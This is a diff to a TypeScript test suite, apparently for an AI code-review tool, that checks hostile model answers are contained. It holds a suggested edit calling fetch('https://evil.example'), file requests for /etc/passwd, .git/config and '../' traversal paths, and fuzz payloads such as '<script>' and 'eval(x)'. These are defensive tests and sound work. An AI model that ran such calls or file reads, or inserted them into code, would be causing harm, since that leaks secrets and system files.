@@ -94,10 +94,14 @@ describe('each attack alone', () => {
   })
 
   test('a suggestion that brings a foreign word is not offered', async () => {
-    const tag = { $tagAt: 'attempts - attempt' }
-    const suggestion = { first_tag: tag, last_tag: tag, replacement: "      fetch('https://evil.example')" }
-    const review = await reviewWith([good(answer({ ...waitFinding, suggestion }))])
-    expect(review.findings).toMatchObject([{ suggestion: null }])
+    const edit = {
+      old: '      await delayFor(attempts - attempt)',
+      new: "      fetch('https://evil.example')",
+    }
+    const review = await reviewWith([good(answer({ ...waitFinding, edits: [edit] }))])
+    expect(review.findings).toMatchObject([
+      { suggestion: null, refusedSuggestion: expect.stringContaining('which the finding does not name') },
+    ])
     expect(review.verdicts[0]?.reason).toContain('suggestion left out')
     expectGrounded(review)
   })
@@ -120,10 +124,10 @@ describe('each attack alone', () => {
     expectGrounded(review)
   })
 
-  test('requests for files that are none of its business are refused, and nothing of them is sent', async () => {
+  test('requests for what is not in the tree are refused, and nothing of it is sent', async () => {
     await using fake = await startFakeProvider('anthropic', {
-      steps: ['/etc/passwd', '.git/config', '../x', 'notes/private.md'].map((file) =>
-        good({ ...emptyAnswer, context_request: { file, line_start: 1, line_end: 2, reason: 'please' } }),
+      steps: ['/etc/passwd', '.git/config', '../x', 'notes/../../x'].map((file) =>
+        good({ ...emptyAnswer, context_requests: [{ file, line_start: 1, line_end: 2, reason: 'please' }] }),
       ),
     })
     for (let round = 0; round < 4; round++) {
@@ -134,10 +138,10 @@ describe('each attack alone', () => {
         facts: sharedFacts(),
         models: { environment: fakeEnvironment(fake) },
       })
-      expect(review.models?.followUps).toMatchObject([{ refused: { kind: 'out-of-scope' }, outcome: null }])
+      expect(review.models?.followUps).toMatchObject([{ refused: { kind: 'absent' }, outcome: null }])
     }
     expect(fake.calls).toHaveLength(4)
-    for (const { call } of fake.calls) expect(call.prompt).not.toContain('nobody may read this')
+    for (const { call } of fake.calls) expect(call.prompt).not.toContain('root:')
   })
 })
 
@@ -188,20 +192,21 @@ test('a hundred random mixtures: whatever is published is grounded', async () =>
     })),
     title: pick(['Plain', '<script>x</script>', 'a`b', '@team look', '\u200b', 'x'.repeat(400)]),
     severity: pick(['critical', 'high', 'low']),
-    confidence: pick(['certain', 'likely']),
+    confidence: pick(['possible', 'likely']),
     claims: pick([
       [],
       [claim({ kind: 'line-contains', path: 'src/retry.ts', line: 10, text: 'attempts' })],
       [claim({ kind: 'unused', path: 'src/retry.ts', line: -1, name: 'x' })],
-      [claim({ kind: 'missing-path', path: 'src/retry.ts', line: 10, other_path: 'src/gone.ts' })],
+      [claim({ kind: 'missing-path', path: 'src/retry.ts', line: 10, target: 'src/gone.ts' })],
     ]),
-    suggestion: pick([
-      null,
-      {
-        first_tag: pick(tags),
-        last_tag: pick(tags),
-        replacement: pick(['', 'eval(x)', '\u202e', 'y\n'.repeat(90)]),
-      },
+    edits: pick([
+      [],
+      [
+        {
+          old: pick(['      await delayFor(attempts - attempt)', '    }', '', 'nowhere', '\u202e']),
+          new: pick(['', 'eval(x)', '\u202e', 'y\n'.repeat(90)]),
+        },
+      ],
     ]),
   })
   const review = await reviewWith([good(answer(...Array.from({ length: 50 }, finding)))])
@@ -217,15 +222,8 @@ function claim(changes: object): object {
     kind: 'line-contains',
     path: 'src/retry.ts',
     line: 10,
-    end_line: 0,
-    name: '',
-    other_path: '',
-    other_line: 0,
-    other_end_line: 0,
     side: 'new',
     text: '',
-    together: 0,
-    total: 0,
     ...changes,
   }
 }
